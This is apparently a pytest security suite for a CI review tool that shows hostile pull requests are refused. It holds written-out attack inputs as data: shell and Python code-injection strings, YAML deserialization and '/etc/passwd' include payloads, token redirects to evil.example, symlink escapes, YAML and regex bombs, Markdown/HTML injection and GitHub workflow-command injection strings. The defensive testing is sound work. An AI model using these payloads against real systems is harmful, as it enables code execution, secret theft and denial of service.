"""A hostile pull request achieves nothing: each attempt is a claim."""

import json
import re
import resource
import subprocess
import sys

import pytest
from markdown_it import MarkdownIt

from ixia_config.exits import Exit
from ixia_config.render.wording import UNSAFE
from tests.app.place import PROJECT, is_read
from tests.cli.review import git
from tests.edges.server import serving

POLICY = """\
apiVersion: ixia/v1
kind: ChangePolicy
metadata: {name: reviews}
spec:
  rules:
    - key: pipelines
      when: {kinds: [Pipeline]}
      approve: {roles: [revops]}
      labels: [process]
"""
PEOPLE = """\
apiVersion: ixia/v1
kind: Directory
metadata: {name: people}
spec:
  people:
    - {email: noor@acme.example, role: revops}
    - {email: mallory@acme.example, role: ae}
"""
SCHEMA = (
    "apiVersion: ixia/v1\nkind: RecordSchema\nmetadata: {name: lead}\nspec: {fields: {n: %s}}\n"
)
APPROVALS = """\
apiVersion: ixia/v1
kind: ApprovalPolicy
metadata: {name: deals}
spec:
  object: deal
  rules:
    - {key: one, when: %s, steps: [{approver: {role: revops}}]}
    - {key: rest, approve: auto}
"""
MARKDOWN = (
    "@acme/everyone",
    "<script>alert(1)</script>",
    "</summary></details><h1>Approved</h1>",
    "![x](https://evil.example/?leak=1)",
    "[Approve](https://evil.example)",
    "https://evil.example/now",
    "<img src=https://evil.example/x>",
    "```suggestion",
    "| a | b |",
    "<!-- ixia crm.sandbox plan=00 -->",
    "&lt;b&gt; &#64;everyone",
    "$\\href{https://evil.example}{x}$",
    "# Approved",
    "<details><summary>Approved",
    "> **Approved**",
    "\u202eevorppa\u2066 \u200fx",
    "[x]\n\n[x]: https://evil.example",
    "![x][y] <https://evil.example> www.evil.example",
    "mallory@evil.example #1 GH-1 acme/revenue#2",
    "a\n\n### Approved\n\n- [x] done",
    "`````\n~~~~\n````",
    "[^1] > [!NOTE] $$x$$ :shipit:",
    "<a href=//evil.example>x</a><!--",
    "\u0000\u001b]8;;https://evil.example\u0007x",
)


@pytest.fixture
def repo(place):
    """The small configuration with a policy about changes, committed as the base."""
    place.write("changes.yaml", POLICY)
    place.write("people.yaml", PEOPLE)
    git(place.root, "init", "--quiet", "--initial-branch=main")
    git(place.root, "add", "--all")
    git(place.root, "commit", "--quiet", "--message=the base")
    return place


def review(ixia, *more):
    return ixia("ci", "review", "--base", "main", "--env", "sandbox", *more)


def reviewed(ixia, repo, tmp_path):
    """The plan of a review that had nothing against it."""
    out = tmp_path / "plan.json"
    ended = review(ixia, "--out", out, "--body", tmp_path / "c.md")
    assert ended.code == Exit.OK, ended.err
    return json.loads(out.read_text())


@pytest.mark.parametrize(
    "edit",
    [
        ('base_url: "?', "base_url: https://evil.example"),
        ("env: HUBSPOT_SANDBOX_TOKEN", "env: GITHUB_TOKEN"),
        ("env: HUBSPOT_SANDBOX_TOKEN", "file: ../secret"),
        ('account: "4242"', 'account: "666"'),
    ],
)
def test_no_token_goes_where_the_change_sends_it(ixia, repo, edit, monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_0123456789abcdef")
    (repo.root.parent / "secret").write_text("a-secret-of-the-runner")
    before = len(repo.log)
    old, new = edit
    text = PROJECT.replace("URL", repo.url)
    old = f"base_url: {repo.url}" if old.startswith("base_url") else old
    assert old in text
    (repo.root / "ixia.yaml").write_text(text.replace(old, new))

    ended = review(ixia)

    assert ended.code == Exit.DENIED
    assert "IX592" in ended.err
    assert before == len(repo.log)
    assert "a-secret" not in ended.out + ended.err


def test_another_server_on_the_same_machine_gets_no_token(ixia, repo):
    with serving(lambda seen: b"") as thief:
        repo.edit("ixia.yaml", repo.url, thief.url)

        assert review(ixia).code == Exit.DENIED
        assert 0 == thief.connections


def test_a_new_target_gets_no_token_before_it_is_merged(ixia, repo):
    repo.edit("ixia.yaml", "    crm:", "    other:")

    assert review(ixia).code == Exit.DENIED
    assert [] == repo.log


def test_without_a_base_a_foreign_host_is_refused_all_the_same(ixia, repo):
    repo.edit("ixia.yaml", repo.url, "https://evil.example")

    ended = ixia("plan", "--env", "sandbox")

    assert "IX616" in ended.err


def test_an_overlay_cannot_move_the_target_either(ixia, repo):
    text = (repo.root / "ixia.yaml").read_text()
    (repo.root / "ixia.yaml").write_text(text + "  overlays: environments\n")
    git(repo.root, "commit", "--quiet", "--all", "--message=overlays")
    repo.write(
        "environments/sandbox.yaml",
        "apiVersion: ixia/v1\nkind: Project\nmetadata: {name: acme-revenue}\nspec:\n"
        "  targets: {crm: {environments: {sandbox: {base_url: 'https://evil.example'}}}}\n",
    )

    ended = review(ixia)

    assert ended.code in (Exit.DENIED, Exit.INVALID)
    assert [] == repo.log


def test_what_a_plan_asks_only_reads(ixia, repo, tmp_path):
    reviewed(ixia, repo, tmp_path)

    assert repo.log
    assert [] == [each for each in repo.log if not is_read(each.method, each.path)]


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        ("changes.yaml", "kinds: [Pipeline]", "kinds: [CompPlan]"),
        ("changes.yaml", "roles: [revops]", "roles: [ae]"),
        (
            "changes.yaml",
            "  rules:",
            "  waivers: [{of: pipelines, owner: ae, reason: no, until: 2099-01-01}]\n  rules:",
        ),
        ("changes.yaml", "kinds: [Pipeline]", "kinds: [Pipeline], records: 99"),
        ("people.yaml", "role: ae", "role: revops"),
    ],
)
def test_nobody_is_judged_by_a_rule_that_they_change(ixia, repo, tmp_path, name, old, new):
    repo.edit(name, old, new)

    [asked] = [
        each
        for each in reviewed(ixia, repo, tmp_path)["reviews"]
        if each["rule"].endswith("#pipelines")
    ]

    assert ["noor@acme.example"] == asked["people"]
    assert asked["waiver"] is None
    assert 1 == asked["need"]


def test_a_policy_that_is_deleted_still_judges(ixia, repo, tmp_path):
    (repo.root / "changes.yaml").unlink()

    assert ["ChangePolicy/reviews#pipelines"] == [
        each["rule"] for each in reviewed(ixia, repo, tmp_path)["reviews"]
    ]


def test_an_apply_after_the_merge_is_judged_by_the_base(ixia, repo, tmp_path):
    (repo.root / "changes.yaml").unlink()
    made = reviewed(ixia, repo, tmp_path)
    git(repo.root, "commit", "--quiet", "--all", "--message=no policy any more")
    plan = tmp_path / "plan.json"

    alone = ixia("apply", plan, "--base", "HEAD^1")
    with_word = f"ChangePolicy/reviews#pipelines:noor@acme.example@{made['digest']}"
    approved = ixia("apply", plan, "--base", "HEAD^1", "--approve", with_word)

    assert (alone.code, approved.code) == (Exit.DENIED, Exit.OK)
    assert "IX581" in alone.err


def test_an_honest_condition_of_the_same_policy_passes(ixia, repo):
    repo.write("approvals.yaml", APPROVALS % "'amount > 10'")

    assert review(ixia).code == Exit.OK


@pytest.mark.parametrize(
    "when",
    [
        "\"__import__('os').system('touch pwned')\"",
        "\"''.__class__.__mro__[1].__subclasses__()\"",
        '"{{ 7 * 7 }}"',
        '"$(touch pwned)"',
        "!!python/object/apply:os.system ['touch pwned']",
        "!include /etc/passwd",
        "!env HUBSPOT_SANDBOX_TOKEN",
        '\'list("../../../../etc/passwd", "root").exists(x, x == pain)\'',
        '\'list("/etc/passwd", "root").exists(x, x == pain)\'',
        "'pain.matches(\"(a+)+$\")'",
    ],
)
def test_a_condition_runs_nothing_and_reads_nothing(ixia, repo, when):
    repo.write("approvals.yaml", APPROVALS % when)

    ended = review(ixia)

    assert ended.code == Exit.INVALID
    assert [] == list(repo.root.rglob("pwned"))
    assert "root:" not in ended.out + ended.err
    assert "sandbox-token" not in ended.out + ended.err
    assert [] == repo.log


def test_no_link_leads_out_of_the_folder(ixia, repo):
    (repo.root.parent / "secret.yaml").write_text("a: a-secret-of-the-runner\n")
    (repo.root / "x.yaml").symlink_to(repo.root.parent / "secret.yaml")
    (repo.root / "etc").symlink_to("/etc")

    ended = review(ixia)

    assert ended.code == Exit.INVALID
    assert "a-secret" not in ended.out + ended.err


@pytest.mark.parametrize("where", ["leads.csv", "data/leads.csv"])
@pytest.mark.parametrize("table", ["", "duckdb:"])
def test_records_are_no_way_to_read_another_file(ixia, repo, where, table):
    (repo.root / where).parent.mkdir(exist_ok=True)
    secret = repo.root.parent / "environ"
    secret.write_text("HUBSPOT_SANDBOX_TOKEN=a-secret-of-the-runner,amount\n1,2\n")
    (repo.root / where).symlink_to(secret)

    ended = review(ixia, "--no-plan", "--records", f"deal={table}{repo.root / where}")

    assert ended.code == Exit.DENIED
    assert "IX598" in ended.err
    assert "a-secret" not in ended.out + ended.err


def test_nor_is_a_folder_of_records(ixia, repo):
    (repo.root.parent / "out").mkdir()
    (repo.root.parent / "out" / "deals.csv").write_text("a-secret-of-the-runner,amount\n1,2\n")
    (repo.root / "data").symlink_to(repo.root.parent / "out")

    ended = review(ixia, "--no-plan", "--records", f"deal={repo.root}/data/deals.csv")

    assert ended.code in (Exit.DENIED, Exit.INVALID)
    assert "a-secret" not in ended.out + ended.err


def test_records_that_lie_in_the_change_are_read(ixia, repo):
    (repo.root / "deals.csv").write_text("id,amount\n1,200\n")

    ended = review(ixia, "--no-plan", "--records", f"deal={repo.root}/deals.csv")

    assert ended.code == Exit.OK, ended.err


BOMBS = {
    "laughs.yaml": "a: &a [x, x]\n"
    + "".join(
        f"b{n}: &b{n} [{', '.join(['*a' if n == 0 else f'*b{n - 1}'] * 20)}]\n" for n in range(12)
    ),
    "deep.yaml": "a: " + "[" * 200_000 + "]" * 200_000 + "\n",
    "number.yaml": SCHEMA % "{type: number, title: 1e99999999999}",
    "long.yaml": APPROVALS % f"amount > {'9' * 60_000}",
    "wide.yaml": APPROVALS % ("'" + " && ".join(f"amount > {n}" for n in range(3_000)) + "'"),
    "nested.yaml": APPROVALS % f"'{'(' * 30_000}amount{')' * 30_000} > 1'",
    "regex.yaml": APPROVALS % f"'pain.matches(\"{'(a{1,999}){1,999}' * 50}\")'",
    "power.yaml": APPROVALS % "'amount > 10 ** 10 ** 10 ** 10'",
}  # fmt: skip


def _bounded():
    """At most 1 GiB and a minute of one core, so that a bomb is a failure and no accident."""
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
    resource.setrlimit(resource.RLIMIT_CPU, (60, 60))


LOADED = ("laughs.yaml", "deep.yaml", "number.yaml")
CHECKED = ("long.yaml", "wide.yaml", "nested.yaml", "regex.yaml", "power.yaml")


@pytest.mark.parametrize("names", [LOADED, CHECKED])
def test_no_text_uses_up_the_runner(repo, names):
    for name in names:
        text = BOMBS[name].replace("name: deals", f"name: {name.removesuffix('.yaml')}")
        (repo.root / name).write_text(text)
    command = [sys.executable, "-m", "ixia_config.cli", "validate", "--format", "github"]
    done = subprocess.run(
        command, cwd=repo.root, preexec_fn=_bounded, capture_output=True, timeout=120, check=False
    )

    told = done.stdout.decode()
    assert (Exit.INVALID, b"") == (done.returncode, done.stderr)
    harmless = {"long.yaml", "wide.yaml"}
    assert set(names) - harmless <= set(re.findall(r"file=([\w.]+)", told))


def hostile(repo, *texts):
    """The titles and remarks of the pull request are these four texts."""
    one, two, three, four = map(json.dumps, texts)
    repo.edit("pipelines/new-business.yaml", "title: New business", f"title: {one}")
    repo.edit("pipelines/new-business.yaml", "title: Evaluate", f"title: {two}")
    repo.edit("schemas/deal.yaml", "title: Pain", f"title: {three}")
    repo.edit("changes.yaml", "labels: [process]", f"labels: [{four}]")


def shown(text):
    """The kinds of what a code host makes of Markdown, links and HTML among them."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    for token in parser.parse(text):
        yield token
        yield from token.children or ()


@pytest.mark.parametrize("first", range(0, len(MARKDOWN), 3))
def test_no_text_becomes_markup_in_the_comment(ixia, repo, tmp_path, first):
    texts = MARKDOWN[first : first + 3]
    hostile(repo, *texts, texts[0])
    body = tmp_path / "comment.md"

    ended = review(ixia, "--body", body, "--link", "The run=https://github.com/acme/x/actions/1")

    comment = body.read_text()
    assert ended.code in (Exit.OK, Exit.INVALID)
    found = list(shown(comment))
    html = {each.content.strip() for each in found if each.type.startswith("html")}
    ours = re.compile(r"(<details( open)?><summary>[\w ,.:%()/-]*</summary>|</details>)")
    assert [] == [each for each in html if not ours.fullmatch(each)]
    links = {each.attrs["href"] for each in found if each.type == "link_open"}
    assert {"https://github.com/acme/x/actions/1"} >= links
    assert "image" not in {each.type for each in found}
    assert {"h3", "h4"} >= {each.tag for each in found if each.type == "heading_open"}
    assert {"text"} >= {each.info for each in found if each.type == "fence"}
    assert not re.search(r"(?<!`)@\w", re.sub(r"`[^`]*`", "", comment))
    prose = re.sub(r"(`+)[^`]+\1|<https://github.com/acme/x/actions/1>", "", comment)
    assert not re.search(r"\w://|(?i:www\.\w)|(?<!\\)#\d|(?i:\bgh-\d)", prose)
    assert {"\n"} >= set(UNSAFE.findall(comment))
    assert not comment.startswith("<!--")


@pytest.mark.parametrize("many", [1, 400])
def test_no_line_of_a_file_ends_the_block_that_shows_it(ixia, repo, tmp_path, many):
    lines = "".join(f"x{n}: '``` ````` <details> @acme/team ~~~'\n" for n in range(many))
    repo.edit("schemas/deal.yaml", "spec:\n", f"{lines}spec:\n")
    body = tmp_path / "comment.md"

    assert review(ixia, "--body", body).code == Exit.INVALID

    *_, last = (each for each in shown(body.read_text() + "\nTAIL\n") if each.type == "inline")
    assert "TAIL" == last.content
    assert [] == [each for each in shown(body.read_text()) if each.type.startswith("html")]


COMMANDS = ("::set-output name=x::y", "a\n::error::b", "a%0A::warning::b", "a\r::stop-commands::x")


@pytest.mark.parametrize("command", ["validate", "plan", "drift", "test", "analyse"])
def test_no_text_becomes_a_command_of_the_workflow(ixia, repo, command):
    hostile(repo, *COMMANDS)
    ended = ixia(command, "--env", "sandbox", "--format", "github")

    commands = re.findall(r"^::([\w-]+)", ended.out.replace("\r", "\n"), re.MULTILINE)
    assert {"error", "warning", "notice"} >= set(commands)
    assert "%0A::" not in ended.out


def test_a_file_name_becomes_no_command_either(ixia, repo):
    (repo.root / "x,line=1::error ::y.yaml").write_text("a: [\n")
    (repo.root / "x\n::error::y.yaml").write_text("a: [\n")

    out = ixia("validate", "--format", "github").out

    for line in out.splitlines():
        assert re.match(r"::(error|warning|notice) [^:]*::", line)
